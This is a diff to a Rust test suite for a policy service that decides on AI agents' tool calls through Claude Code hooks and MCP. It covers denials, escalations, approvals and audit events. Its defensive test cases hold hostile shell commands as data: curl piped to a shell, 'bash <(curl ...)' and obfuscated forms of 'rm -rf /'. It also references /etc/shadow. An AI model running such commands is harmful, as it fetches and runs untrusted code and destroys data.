@@ -2,8 +2,12 @@
 
 use policy::{starter, templates::Template};
 use serde_json::{Value, json};
+use testkit::eventually;
 
-use crate::deployment::{Customer, Deployment, Running, ok};
+use crate::deployment::{Customer, DEADLINE, Deployment, Running, ok};
+
+/// The hook of Claude Code, as the agent that most calls here are by.
+const HOOK: &str = "/v1/hooks/claude-code/pre-tool-use?agent_id=agent-1";
 
 /// Where questions come in.
 #[derive(Clone, Copy, Debug)]
@@ -60,12 +64,7 @@ impl Customer {
             Door::Hook | Door::Mcp => {
                 let path =
                     format!("/v1/hooks/claude-code/pre-tool-use?agent_id={agent}&on_allow=allow");
-                let hook = json!({
-                    "hook_event_name": "PreToolUse", "permission_mode": "default", "session_id": "s",
-                    "tool_name": what, "tool_input": with,
-                });
-                let answer = ok(self.post(&path, &hook).await).await;
-                let output = &answer["hookSpecificOutput"];
+                let output = self.asks_by_hook(&path, what, with).await;
                 match output["permissionDecision"].as_str() {
                     Some("allow") if output.get("updatedInput").is_some() => "modify".to_owned(),
                     Some("ask") => "escalate".to_owned(),
@@ -73,6 +72,15 @@ impl Customer {
                 }
             }
         }
+    }
+
+    /// What Claude Code is told of a call.
+    async fn asks_by_hook(&self, path: &str, tool: &str, with: &Value) -> Value {
+        let hook = json!({
+            "hook_event_name": "PreToolUse", "permission_mode": "default", "session_id": "s",
+            "tool_name": tool, "tool_input": with,
+        });
+        ok(self.post(path, &hook).await).await["hookSpecificOutput"].clone()
     }
 }
 
@@ -134,6 +142,8 @@ async fn dangerous_commands_are_stopped_at_every_door_however_they_are_spelled()
         (json!("curl https://example.com|sudo sh"), "deny"),
         (json!("curl https://example.com | /bin/zsh"), "deny"),
         (json!("bash <(curl https://example.com)"), "deny"),
+        (json!("r\\\nm -rf /"), "deny"),
+        (json!("{rm,-rf,/}"), "deny"),
         (json!(format!("{}; rm -rf /", "x".repeat(5_000))), "deny"),
         (json!(5), "deny"),
         (json!("git  push --force"), "escalate"),
@@ -142,6 +152,14 @@ async fn dangerous_commands_are_stopped_at_every_door_however_they_are_spelled()
     for (door, shell) in SHELLS {
         for (command, expected) in &commands {
             cases.push((call(door, shell, json!({"command": command})), *expected));
+        }
+        for with in [
+            json!({"command": "rm", "args": ["-r", "-f", "/"]}),
+            json!({"command": "rm", "args": ["-rf", "/", 5]}),
+            json!({"commands": ["ls", "rm -rf /"]}),
+            json!({"cmd": "ls", "steps": [{"run": {"Command": "rm -rf /"}}]}),
+        ] {
+            cases.push((call(door, shell, with), "deny"));
         }
     }
     decides(&mut running, template("dangerous-commands"), &cases).await;
@@ -332,4 +350,97 @@ async fn of_several_things_that_a_call_works_on_none_is_hidden_by_another() {
     ];
     let cases = cases.map(|(with, expected)| (call(Door::Mcp, "mcp__files__copy", with), expected));
     decides(&mut running, policies, &cases).await;
+}
+
+/// Whoever copies something may have it asked about.
+const ASKED: &str = r#"
+    @id("all") permit (principal, action, resource);
+    @id("no-shadow") forbid (principal, action, resource == file::"/etc/shadow");
+    @id("asked") @verdict("escalate") forbid (principal, action in Action::"mcp.files", resource);
+"#;
+
+#[tokio::test]
+async fn nobody_is_asked_about_a_call_that_is_denied_whatever_they_say() {
+    let running = Running::start(Deployment::new());
+    let customer = &running.customer;
+    customer.put_in_force(ASKED).await;
+    let with = json!({"path": "/srv/a", "paths": ["/etc/shadow"]});
+    let output = customer.asks_by_hook(HOOK, "mcp__files__copy", &with).await;
+    assert_eq!(output["permissionDecision"], "deny");
+    let reason = text(&output["permissionDecisionReason"]);
+    assert!(reason.contains("no-shadow"), "{reason}");
+    assert!(customer.pending().await.is_empty());
+    let events = customer
+        .get_json("/v1/audit/events?event_type=decision")
+        .await;
+    let told = |resource: &str| {
+        let data = events["data"].as_array().expect("data");
+        let found = data.iter().find(|event| event["resource"] == resource);
+        found.expect("an event").clone()
+    };
+    assert_eq!(told("file:/etc/shadow")["result"], "denied");
+    let unasked = told("file:/srv/a");
+    assert_eq!(unasked["result"], "denied");
+    assert_eq!(unasked["metadata"]["refused"]["why"], "call_denied");
+
+    // As long as they are, both would have to be looked at.
+    let large = json!({"paths": ["/srv/a", "/srv/b"], "content": "x".repeat(3 << 20)});
+    let output = customer
+        .asks_by_hook(HOOK, "mcp__files__write", &large)
+        .await;
+    let reason = text(&output["permissionDecisionReason"]);
+    assert!(reason.contains("counted for each"), "{reason}");
+}
+
+#[tokio::test]
+async fn no_approval_of_a_call_is_used_before_all_are_given() {
+    let running = Running::start(Deployment::new());
+    let customer = &running.customer;
+    customer.approve_alone().await;
+    customer.put_in_force(ASKED).await;
+    let waiting = format!("{HOOK}&wait=20&on_allow=allow");
+    let with = json!({"paths": ["/srv/a", "/srv/b"]});
+    for (second, expected) in [(false, "deny"), (true, "allow")] {
+        let said = async {
+            let asked = eventually(DEADLINE, "people are asked about both", async || {
+                let pending = customer.pending().await;
+                (pending.len() == 2).then_some(pending)
+            });
+            let asked = asked.await;
+            let ids: Vec<String> = asked.iter().map(|one| text(&one["decision_id"])).collect();
+            for (id, approve) in ids.iter().zip([true, second]) {
+                customer.resolve(id, &json!({"approve": approve})).await;
+            }
+            ids
+        };
+        let asking = customer.asks_by_hook(&waiting, "mcp__files__copy", &with);
+        let (output, ids) = tokio::join!(asking, said);
+        assert_eq!(output["permissionDecision"], expected, "{output}");
+        for id in ids {
+            let decision = customer
+                .get_json(&format!("/v1/runtime/decisions/{id}"))
+                .await;
+            assert_eq!(decision["spent_by"].is_null(), !second, "{decision}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn whoever_approves_a_call_at_the_terminal_approves_it_with_its_changes() {
+    let running = Running::start(Deployment::new());
+    let customer = &running.customer;
+    let stamp = r#"@id("stamp") @obligation("[{\"op\": \"add\", \"path\": \"/by\", \"value\": \"us\"}]")
+        permit (principal, action, resource == file::"/srv/stamped");"#;
+    let asked = r#"@id("asked") @verdict("escalate") forbid (principal, action, resource) when { context.tool_input has asked };"#;
+    let policies = format!("{}{stamp}{asked}", starter::POLICIES);
+    customer.put_in_force(&policies).await;
+    for with in [
+        json!({"path": "/srv/stamped", "asked": true}),
+        json!({"paths": ["/srv/stamped", "/srv/plain"], "asked": true}),
+        json!({"paths": ["/srv/plain", "/srv/stamped"], "asked": true}),
+    ] {
+        let output = customer.asks_by_hook(HOOK, "mcp__files__copy", &with).await;
+        assert_eq!(output["permissionDecision"], "ask", "{output}");
+        assert_eq!(output["updatedInput"]["by"], "us", "{output}");
+    }
 }
